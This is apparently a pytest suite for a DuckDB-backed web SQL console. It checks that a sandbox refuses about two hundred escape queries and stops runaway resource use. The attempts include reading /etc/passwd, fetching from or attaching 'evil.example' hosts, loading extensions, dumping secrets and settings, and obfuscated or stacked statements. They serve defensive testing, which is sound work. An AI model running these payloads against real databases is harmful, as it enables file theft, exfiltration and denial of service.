"""What strangers type to get out of the SQL page, and what people type to get answers from it.

The table runs in this process, on the very call that the page makes in a process of its own; what takes time or
memory without end runs in such a process, where the operating system's limits hold.
"""

from __future__ import annotations

import time
from pathlib import Path
from typing import TYPE_CHECKING

import pytest

from dropline.app import sql_console
from dropline.app.queries import sql
from dropline.app.sandbox import Refused, TooMuch
from dropline.app.warehouse import QueryRefused, Warehouse

if TYPE_CHECKING:
    from collections.abc import Iterator

ESCAPES = {
    "writing": """
        create table stolen as select 1
        create or replace table trials as select 1
        create temp table stolen as select 1
        create temporary view stolen as select 1
        create table memory.main.stolen as select 1
        create table temp.stolen as select 1
        create view stolen as select * from trials
        create macro stolen() as 1
        create temp macro stolen() as table select 1
        create function stolen(a) as a
        create type stolen as enum ('a')
        create sequence stolen
        create schema stolen
        create index stolen on trials (trial_id)
        create secret stolen (type s3, key_id 'a', secret 'b')
        insert into trials select * from trials
        insert into memory.main.stolen values (1)
        update trials set sent = 0
        delete from trials
        truncate trials
        merge into trials using trials as t on true when matched then delete
        drop table trials
        drop schema main cascade
        alter table trials rename to gone
        alter table trials add column a int
        comment on table trials is 'mine'
        with gone as (delete from trials returning *) select * from gone
        with gone as (update trials set sent = 0 returning *) select * from gone
        with new as (insert into trials select * from trials returning *) select * from new
        select * from (delete from trials returning *)
        analyze
        vacuum
    """,
    "files": """
        copy trials to 'stolen.csv'
        copy (select 1) to 'stolen.parquet' (format parquet)
        copy trials from '/etc/passwd'
        copy (select 1) to '/dev/stdout'
        copy from database warehouse to memory
        export database 'stolen'
        import database 'stolen'
        select * from read_csv('/etc/passwd')
        select * from read_csv_auto('/etc/passwd')
        select * from read_text('/etc/passwd')
        select * from read_blob('/etc/passwd')
        select * from read_json('/etc/passwd')
        select * from read_json_auto('/etc/passwd')
        select * from read_ndjson('/etc/passwd')
        select * from read_json_objects('/etc/passwd')
        select * from read_parquet('/etc/passwd')
        select * from parquet_scan('/etc/passwd')
        select * from parquet_metadata('/etc/passwd')
        select * from parquet_schema('/etc/passwd')
        select * from read_duckdb('/etc/passwd')
        select * from sniff_csv('/etc/passwd')
        select * from glob('/*')
        from '/etc/passwd'
        select * from '/etc/passwd'
        from 'file.csv'
        from "file.csv"
        from 'file.parquet'
        from '*.json'
        from 'file:///etc/passwd'
        from 'http://evil.example/a.csv'
        from 's3://evil/a.parquet'
        from 'https://evil.example/a.parquet' select 1
        select (select content from read_text('/etc/passwd'))
        select 1 where exists (from read_csv('/etc/passwd'))
        select * from trials where source_path in (select file from glob('/*'))
        with a as (select * from read_text('/etc/passwd')) select * from a
        with a as materialized (from '/etc/passwd') from a
        select * from trials, lateral (select * from read_text(trials.source_path))
        describe select * from read_csv('/etc/passwd')
        describe 'file.csv'
        summarize 'file.csv'
        summarize select * from read_csv('/etc/passwd')
        pivot (from read_csv('/etc/passwd')) on a in (1) using count(*)
        unpivot (from read_csv('/etc/passwd')) on *
        (select * from read_text('/etc/passwd')) union all select 'a'
        select list_transform([1], lambda x: (select content from read_text('/etc/passwd')))
        select * from main.read_text('/etc/passwd')
        select * from system.main.read_text('/etc/passwd')
        select * from "read_text"('/etc/passwd')
        select * from READ_TEXT('/etc/passwd')
        select * from/**/read_text/* a */('/etc/passwd')
        select * from read_text(concat('/etc', '/passwd'))
        select * from read_text(['/etc/passwd', '/etc/hosts'])
        select * from read_text('/etc/pass' || 'wd')
        select * from read_text(E'\\x2fetc/passwd')
        select * from read_text(U&'\\002Fetc/passwd')
        select * from read_text($$/etc/passwd$$)
        select * from positional_join('/etc/passwd')
        select * from \uff52\uff45\uff41\uff44\uff3f\uff54\uff45\uff58\uff54('/etc/passwd')
        select * from re\u200bad_text('/etc/passwd')
        select\u00a0*\u00a0from\u00a0read_text('/etc/passwd')
        select $1 from read_text('/etc/passwd')
    """,
    "reaching out": """
        attach 'other.duckdb'
        attach ':memory:' as other
        attach 'https://evil.example/a.duckdb' as other
        attach or replace 'warehouse.duckdb' as warehouse
        detach warehouse
        use memory
        install httpfs
        force install httpfs from 'http://evil.example'
        load httpfs
        load '/tmp/evil.duckdb_extension'
        update extensions
        select * from sqlite_scan('a.db', 'b')
        select * from postgres_scan('host=evil.example', 'a', 'b')
        select * from mysql_scan('a', 'b', 'c')
        select * from iceberg_scan('s3://evil')
        select * from delta_scan('s3://evil')
        select * from st_read('/etc/passwd')
        select * from read_xlsx('/etc/passwd')
        select * from http_get('http://evil.example')
        select http_get('http://evil.example')
        select st_point(1, 2)
        select * from arrow_scan(1, 2, 3)
        select * from arrow_scan_dumb(1, 2, 3)
        select * from pandas_scan(1)
        select * from python_map_function(1)
        select * from python_arrow_scan(1, 2, 3)
        select * from seq_scan('trials')
        from statements
        from cursor
    """,
    "telling of the machine": """
        select getenv('HOME')
        select current_setting('memory_limit')
        select current_setting('home_directory')
        select 'temp_directory'.current_setting()
        select "current_setting"('threads')
        select CURRENT_SETTING('threads')
        select system.main.current_setting('threads')
        select main.current_setting('threads')
        select list_transform(['threads'], lambda x: current_setting(x))
        select [current_setting(x) for x in ['threads']]
        select 1 order by current_setting('threads')
        select count(*) filter (where current_setting('threads') > '0') from trials
        select 1 limit (select current_setting('threads')::int)
        select case when true then current_setting('threads') end
        select sum(current_setting('threads')::int) over ()
        values (current_setting('threads'))
        with a as (select current_setting('threads')) from a
        select getvariable('a')
        select current_query()
        select get_block_size('warehouse')
        select write_log('a')
        from duckdb_settings()
        from duckdb_settings
        from duckdb_secrets()
        from duckdb_secret_types()
        from which_secret('s3://a', 's3')
        from duckdb_databases()
        from duckdb_databases
        from system.main.duckdb_databases
        from "DuckDB_Databases"
        with duckdb_databases as (select 1) from system.main.duckdb_databases
        select path from (select * from duckdb_databases)
        from pragma_database_list
        from pragma_database_size()
        from pragma_storage_info('trials')
        from pragma_metadata_info('warehouse')
        from pragma_platform()
        from pragma_user_agent()
        from pg_settings
        from pg_catalog.pg_settings
        from pg_catalog.pg_database
        from sqlite_master
        from duckdb_extensions()
        from duckdb_memory()
        from duckdb_logs()
        from duckdb_logs
        from duckdb_logs_parsed('QueryLog')
        from duckdb_profiling_settings()
        from duckdb_temporary_files()
        from duckdb_external_file_cache()
        from duckdb_connection_count()
        from duckdb_prepared_statements()
        from duckdb_variables()
        from histogram('duckdb_settings', name)
        describe duckdb_settings
        summarize duckdb_databases
        describe (from duckdb_settings())
        table duckdb_settings
        pragma database_list
        pragma database_size
        pragma show_databases
        pragma table_info('trials')
        pragma version
    """,
    "settings": """
        set memory_limit = '100GB'
        set global threads = 64
        set enable_external_access = true
        set lock_configuration = false
        set variable a = 1
        set schema = 'memory.main'
        set search_path = 'memory'
        set home_directory = '/tmp'
        set file_search_path = '/etc'
        reset enable_external_access
        reset lock_configuration
        pragma enable_external_access
        pragma memory_limit = '100GB'
        pragma enable_profiling
        pragma enable_logging
        from enable_logging()
        from enable_profiling()
        from disable_logging()
        from truncate_duckdb_logs()
        call enable_logging()
    """,
    "around the parser": """
        select 1; select 2
        select 1; drop table trials
        select 1;/**/;attach 'a'
        select 1 /* \u2028 */; drop table trials
        explain drop table trials
        explain select 1
        explain analyze select 1
        explain analyze create table memory.main.stolen as select 1
        explain analyze insert into trials select * from trials
        explain analyze copy trials to 'stolen.csv'
        explain analyze delete from trials
        explain (format json, analyze) create table memory.main.stolen as select 1
        prepare a as select 1
        execute a
        prepare a as drop table trials
        deallocate a
        call duckdb_settings()
        call pragma_table_info('trials')
        call force_checkpoint()
        checkpoint
        force checkpoint
        from checkpoint()
        from force_checkpoint('warehouse')
        begin
        begin transaction read write
        commit
        rollback
        abort
        from query('select 1')
        from query('select * from read_text(''/etc/passwd'')')
        from query('from duckdb_settings()')
        from query('create table memory.main.stolen as select 1')
        from query(concat('from duckdb_', 'settings()'))
        from query_table('duckdb_settings')
        from query_table('/etc/passwd')
        from query_table(['trials', 'duckdb_settings'])
        select * from query_table('trials')
        from json_execute_serialized_sql(json_serialize_sql('select current_setting(''threads'')'))
        pragma json_execute_serialized_sql('{}')
        pivot trials on protocol using count(*)
        select * from (pivot trials on protocol using count(*))
        select nextval('a')
        select $a
        select ?
        selct 1
        select * from no_such_table
        select
        ;
        --
        /* only a comment
        '
        (((((
    """,
}
ATTEMPTS = [
    (aim, text.removeprefix("        ")) for aim, texts in ESCAPES.items() for text in texts.split("\n") if text.strip()
]

ANSWERED = [
    "select 1",
    "SELECT count(*) FROM trials;",
    "values (1, 'a'), (2, 'b')",
    "from trials",
    "from trials select tool, count(*) group by all",
    "table loss_goals",
    "with a as (select * from runs), b as (from a) select count(*) from b",
    "with recursive n(x) as (select 1 union all select x + 1 from n where x < 9) select max(x) from n",
    "with trials as (select 1 as a) from trials",
    "select t.a.b from (select {'b': 1} as a) as t",
    "select unnest([1, 2, 3]) as n",
    "select * from unnest([1, 2])",
    "select * from range(10) as r(n), generate_series(1, 2)",
    "select rank() over (partition by protocol order by offered_rate) from trials qualify row_number() over () < 9",
    "pivot trials on protocol in ('DHCPv4', 'DHCPv6') using count(*) group by tool",
    "select * from (select tool, protocol from trials) pivot (count(*) for protocol in ('DHCPv4'))",
    "unpivot (select 1 as a, 2 as b) on a, b",
    "select * from runs union by name select * from runs",
    "select distinct on (tool) * exclude (command) from trials",
    "select columns('.*_rate') from trials limit 3",
    "select * from trials asof join runs on trials.run_id = runs.run_id and trials.started_at >= runs.started_at",
    "select list_transform([1, 2], lambda x: x + 1), [x for x in [1]], map {'a': 1}",
    "select median(rate), quantile_cont(rate, 0.9), stddev(rate) from capacity",
    "select 'from read_text(''/etc/passwd'')' as text -- drop table trials",
    "select current_setting from (select 1 as current_setting)",
    "select now(), today(), random(), uuid()",
    "describe trials",
    "describe select 1 as a",
    "summarize loss_goals",
    "show tables",
    "show all tables",
    "select table_name, comment from duckdb_tables()",
    "from duckdb_columns where table_name = 'trials'",
    "select * from information_schema.columns",
    "select * from json_each('[1, 2]')",
    "select lps_needed from (select needed_lps as lps_needed from lps_needed(clients := 86400))",
    "select * from configurations_meeting(1000)",
    "select * from main.leases_per_second",
    "select * from warehouse.main.leases_per_second",
]

# Where the limits of DuckDB do not reach, those of the operating system do.
ENDLESS = {
    "growing recursion": "with recursive n(x) as (select 'a' union all select x || x from n) select count(*) from n",
    "cross join": "select count(*) from range(1000000) a, range(1000000) b, range(1000000) c",
    "sorting": "select * from range(1000000000) order by random()",
    "one list": "select list(range) from range(1000000000)",
    "many long texts": "select repeat('x', 200000000) from range(20)",
    "one slow call": "select levenshtein(repeat('a', 1000000), repeat('b', 1000000))",
    "a list as long as it goes": "select len(range(2000000000)::varchar)",
    "grouping": "select range % 999999937, count(*) from range(1000000000) group by all",
}


@pytest.fixture(scope="module")
def asked(warehouse_home: Path) -> Iterator[Warehouse]:
    warehouse = Warehouse.open(warehouse_home / "warehouse.duckdb", sql_console.LIMITS)
    yield warehouse
    warehouse.database.close()


@pytest.fixture
def outside(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A working directory with files that an escape would read, and where it would write."""
    (tmp_path / "file.csv").write_text("a\n1\n")
    monkeypatch.chdir(tmp_path)
    return tmp_path


def test_the_corpus_is_large_and_says_nothing_twice():
    assert len(ATTEMPTS) + len(ENDLESS) >= 200
    assert len({text for _, text in ATTEMPTS}) == len(ATTEMPTS)


@pytest.mark.parametrize(("aim", "text"), ATTEMPTS)
def test_an_escape_is_refused_and_changes_nothing(asked, outside, aim, text):
    with pytest.raises(QueryRefused) as refused:
        asked.ask(text, 10, 10_000)
    assert str(refused.value).strip(), aim
    assert "root:" not in str(refused.value), "a line of /etc/passwd"
    assert str(asked.identity.path) not in str(refused.value)
    assert [each.name for each in outside.iterdir()] == ["file.csv"]
    own = asked.database.execute("select table_name from duckdb_tables() where database_name <> 'warehouse'").fetchall()
    assert own == []


@pytest.mark.parametrize("text", ANSWERED)
def test_a_question_is_answered(asked, text):
    assert asked.ask(text, 10_000, 10**8).rows.num_columns


@pytest.mark.parametrize("text", sql.examples().values(), ids=sql.examples())
def test_every_example_is_answered(asked, text):
    assert asked.ask(text, 100_000, 10**8).rows.num_columns


@pytest.mark.parametrize("text", ENDLESS.values(), ids=ENDLESS)
def test_what_never_ends_is_ended(warehouse_home, text):
    began = time.monotonic()
    with pytest.raises((Refused, TooMuch), match=r"[Mm]emory|was ended|range|longer"):
        sql_console.ask(warehouse_home / "warehouse.duckdb", text, seconds=1.0)
    assert time.monotonic() - began < 5


def test_rows_without_end_are_cut_at_once(warehouse_home):
    answer = sql_console.ask(warehouse_home / "warehouse.duckdb", "from range(1000000000000)")
    assert answer.cut
    assert answer.rows.num_rows == sql_console.MOST_ROWS


def test_bytes_are_cut_before_rows(warehouse_home):
    wide = "select repeat('x', 20000) as text from range(1000000)"
    answer = sql_console.ask(warehouse_home / "warehouse.duckdb", wide)
    assert answer.cut
    assert answer.rows.num_rows < sql_console.MOST_ROWS
    assert answer.rows.nbytes < 3 * sql_console.MOST_BYTES


def test_a_text_that_is_too_long_is_not_read(warehouse_home):
    with pytest.raises(Refused, match="at most 20,000"):
        sql_console.ask(warehouse_home / "warehouse.duckdb", "select 1" + " " * sql_console.MOST_CHARACTERS)


def test_the_process_keeps_its_answer_and_its_reason_apart(warehouse_home):
    path = warehouse_home / "warehouse.duckdb"
    assert sql_console.ask(path, "select 42 as answer").rows.to_pylist() == [{"answer": 42}]
    with pytest.raises(Refused, match="Expected one SELECT, found DROP"):
        sql_console.ask(path, "drop table trials")


def test_who_waits_too_long_for_a_turn_is_told(warehouse_home, monkeypatch):
    from dropline.app import sandbox

    monkeypatch.setattr(sandbox, "WAIT_S", 0.01)
    for _ in range(sandbox.AT_ONCE):
        assert sandbox._TURNS.acquire(timeout=5)
    try:
        with pytest.raises(TooMuch, match="try again"):
            sql_console.ask(warehouse_home / "warehouse.duckdb", "select 1")
    finally:
        for _ in range(sandbox.AT_ONCE):
            sandbox._TURNS.release()
    assert sql_console.ask(warehouse_home / "warehouse.duckdb", "select 1").rows.num_rows == 1
